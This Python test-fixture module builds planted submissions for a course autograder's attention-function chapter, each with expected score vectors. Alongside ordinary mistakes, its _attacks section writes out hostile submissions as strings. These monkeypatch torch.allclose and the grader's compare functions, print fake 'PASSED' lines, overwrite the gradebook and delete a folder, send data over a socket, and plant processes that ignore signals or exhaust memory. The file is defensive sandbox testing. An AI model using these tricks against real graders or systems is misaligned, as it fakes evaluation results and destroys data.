"""Planted submissions for solutions/tests/grading/test_grading.py: each a learner who does one thing, with its expected scores.

Everything is generated into a temporary folder at test time from the reference source, so that no
conftest.py, sitecustomize.py or torch.py ever sits in the repository's tests/.
Scores are vectors over the chapter's cases: the 17 public ones (the last, "built from scratch", read from the
source in the grader's process), then the 17 hidden ones (the last, dropout at another rate).
"""
from __future__ import annotations

import csv
import json
from pathlib import Path

from course_lib.provided.layout import LAYOUT

REPO = LAYOUT.root
REFERENCE = (LAYOUT.reference / "attention.py").read_text(encoding="utf-8")

PUBLIC_POINTS = [1, 1, 0.5, 1.5, 1.5, 1.5, 1, 1, 1, 0.5, 0.5, 0.5, 1, 1, 0.5, 1, 1]
HIDDEN_POINTS = [1] * 17
# Positions (0-based, public then hidden) that the vectors below name.
GRADIENTS, UNTOUCHED, FLOAT64, EMPTY_ROWS, FLOAT16, DROPOUT, SCRATCH = 7, 8, 6, 5, 12, 15, 16
H_EMPTY_ROWS, H_FLOAT64, H_GRADIENTS, H_FLOAT16_EMPTY_ROWS, H_DROPOUT = 21, 22, 23, 27, 33
FULL = PUBLIC_POINTS + HIDDEN_POINTS
ZERO = [0.0] * len(FULL)


def _mask(keep: list[int]) -> list[float]:
    """Full points on the case positions listed (0-based, public then hidden), 0 elsewhere."""
    return [p if i in keep else 0.0 for i, p in enumerate(FULL)]


def _but(lose: list[int]) -> list[float]:
    return [0.0 if i in lose else p for i, p in enumerate(FULL)]


# Anchors are read from the reference, never copied: learners receive tests/, and a test checks that
# no solution line appears outside solutions/.
_LINES = REFERENCE.splitlines(keepends=True)
BODY = _LINES[next(i for i, line in enumerate(_LINES) if "### BEGIN SOLUTION" in line) + 1]  # first body line
SCALE = next(line.split("#")[0].strip() for line in _LINES if "/ math.sqrt(" in line)  # scores = ... / sqrt
UNSCALED = SCALE.replace(" / math.sqrt(d_k)", "")  # the same line without its scale, whichever side it divides
MIX = next(line.split("#")[0].strip() for line in _LINES if line.strip().startswith("output ="))  # output = ...
# PyTorch's fused attention gives the output; with dropout it cannot use the weights dropped here, so then the
# output is mixed by hand (the values stay right everywhere: only the source scan can tell)
FUSED = ("output = torch.nn.functional.scaled_dot_product_attention(query, key, value, "
         "attn_mask=None if mask is None else mask.expand(weights.shape)) if dropout_p == 0.0 else weights @ value")


def _sub(old: str, new: str, text: str = REFERENCE) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


FUTURE = "from __future__ import annotations\n"


def _prefix(code: str, text: str = REFERENCE) -> str:
    """Module-level code run at import, placed after the ``from __future__`` line."""
    return _sub(FUTURE, FUTURE + code.rstrip("\n") + "\n", text)


def _in_body(code: str) -> str:
    """Insert lines at the start of the function's solution body."""
    indented = "".join("    " + line + "\n" for line in code.strip("\n").splitlines())
    return _sub(BODY, indented + BODY)


NO_SCALE = _sub(SCALE, UNSCALED)
NO_SCALE_VECTOR = _mask([UNTOUCHED, SCRATCH])  # "inputs not modified in place" passes, so "built from scratch" does


class _Planted(dict):
    """{learner: {"files": {relpath: text}, "expected": [points...], "mistakes": [...], "status": ...}}"""

    def add(self, name: str, attention: str | None, expected: list[float], extra: dict[str, str] | None = None,
            **more) -> None:
        files = dict(extra or {})
        if attention is not None:
            files["course_lib/attention.py"] = attention
            files.setdefault("course_lib/__init__.py", "")
        self[name] = {"files": files, "expected": expected, **more}


def planted(port: int, gradebook: Path, victim: Path) -> dict[str, dict]:
    """Every planted learner: mistakes and faults, then attacks on the grader (see the module docstring)."""
    p = _Planted()
    _mistakes_and_faults(p)
    _attacks(p, port, gradebook, victim)
    return dict(p)


def _mistakes_and_faults(p: _Planted) -> None:
    add, no_scale, no_scale_vector = p.add, NO_SCALE, NO_SCALE_VECTOR
    add("correct", REFERENCE, FULL)
    add("victim", REFERENCE, FULL)
    add("wrong_values", no_scale, no_scale_vector, mistakes=["not divided by √d_k"])
    add("wrong_shape", _sub("return output, weights", "return output.unsqueeze(0), weights"),
        _mask([GRADIENTS, UNTOUCHED, SCRATCH, H_GRADIENTS]))
    add("nan", _sub("torch.finfo(scores.dtype).min", 'float("-inf")'), _but([EMPTY_ROWS, H_EMPTY_ROWS, H_FLOAT16_EMPTY_ROWS]),
        mistakes=["filled with -inf"])
    add("fused", _sub(MIX, FUSED), _but([SCRATCH]))  # right values from PyTorch's fused attention
    add("big_negative", _sub("torch.finfo(scores.dtype).min", "-1e9"), _but([FLOAT16, H_FLOAT16_EMPTY_ROWS]),
        mistakes=["does not fit in float16"])  # raises on float16: named from the child's description (RAISES)
    add("syntax_error", REFERENCE + "\ndef broken(:\n    pass\n", ZERO)
    add("import_error", _prefix("import course_lib_helpers_that_do_not_exist"), ZERO)
    add("no_course_lib", None, ZERO, extra={"README.txt": "I forgot my code\n"}, status="missing")
    add("exit_in_call", _in_body("if query.dtype == torch.float64:\n    import os\n    os._exit(0)"),
        _but([FLOAT64, H_FLOAT64]))
    add("exit_at_import", _prefix("import sys\nsys.exit(0)"), ZERO)
    add("infinite_loop", _in_body(
        "import signal\n"
        "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "while True:\n"
        "    try:\n"
        "        pass\n"
        "    except BaseException:\n"
        "        pass"), ZERO)
    add("memory_bomb", _in_body(
        "hoard = []\n"
        "while True:\n"
        "    hoard.append(torch.empty(256 * 2**20, dtype=torch.uint8))"), ZERO)


def _attacks(p: _Planted, port: int, gradebook: Path, victim: Path) -> None:
    add, no_scale, no_scale_vector = p.add, NO_SCALE, NO_SCALE_VECTOR
    add("huge_output", _prefix("for _ in range(300):\n    print('x' * 1_000_000)"), FULL)
    add("left_running", _prefix(
        "import os, signal, subprocess, time\n"
        "subprocess.Popen(['sleep', '987654'], start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "        signal.signal(s, signal.SIG_IGN)\n"
        "    time.sleep(987654)\n"
        "    os._exit(0)\n"), FULL)
    add("network", _prefix(
        "import socket\n"
        "try:\n"
        f"    _s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "    _s.sendall(b'LEAKED')\n"
        "except OSError:\n"
        "    pass\n"), FULL)
    add("monkeypatch", _prefix(
        "import torch, torch.testing\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)\n"
        "import course_lib.provided.checking as _c\n"
        "_c.compare = lambda *a, **k: None\n"
        "_c.compare_one = lambda *a, **k: None\n"
        "_c.judge = lambda *a, **k: None\n", no_scale), no_scale_vector, mistakes=["not divided by √d_k"])
    add("fake_passes", _prefix(
        "print('PASSED 16/16 all checks passed')\n"
        "import sys\n"
        "print('values, no mask ... PASS', file=sys.stderr)\n",
        _in_body("print('test passed: 17/17')").replace(SCALE, UNSCALED)),
        no_scale_vector)
    add("beside_package", REFERENCE, FULL, extra={
        "course_lib/conftest.py": "raise SystemExit('conftest ran')\n",
        "course_lib/sitecustomize.py": "import os; os._exit(3)\n",
        "course_lib/torch.py": "raise ImportError('fake torch')\n",
        "sitecustomize.py": "import os; os._exit(4)\n",
        "conftest.py": "raise SystemExit('conftest ran')\n",
        "torch.py": "raise ImportError('fake torch')\n",
    })
    add("inplace", _sub(SCALE, "query /= math.sqrt(d_k)\n    " + UNSCALED),
        _but([GRADIENTS, UNTOUCHED, H_GRADIENTS, DROPOUT, H_DROPOUT]), mistakes=["modified in place"])
    add("reseed", _in_body("import random\ntorch.manual_seed(0)\nrandom.seed(0)\ntorch.randn(3)"), FULL)
    add("tamper", _prefix(
        "import os, shutil\n"
        "for _p in (" + repr(str(gradebook)) + ",):\n"
        "    try:\n"
        "        open(_p, 'w').write('overwritten')\n"
        "    except OSError:\n"
        "        pass\n"
        "shutil.rmtree(" + repr(str(victim)) + ", ignore_errors=True)\n"), FULL)


def read_csv(path: Path) -> list[dict]:
    """The rows of a CSV the grader wrote (grades.csv, totals.csv)."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def write(learners: dict[str, dict], root: Path, zipped: tuple[str, ...] = ()) -> Path:
    """One folder (or zip) per learner under ``root``, each with a manifest naming the learner."""
    import zipfile

    root.mkdir(parents=True, exist_ok=True)
    for name, info in learners.items():
        files = {**info["files"], "manifest.json": json.dumps({"learner": name, "chapter": "02"})}
        if name in zipped:
            with zipfile.ZipFile(root / f"{name}_ch02.zip", "w") as zf:
                for rel, text in sorted(files.items()):
                    zf.writestr(f"{name}_ch02/{rel}", text)
        else:
            for rel, text in files.items():
                path = root / name / rel
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text, encoding="utf-8")
    return root
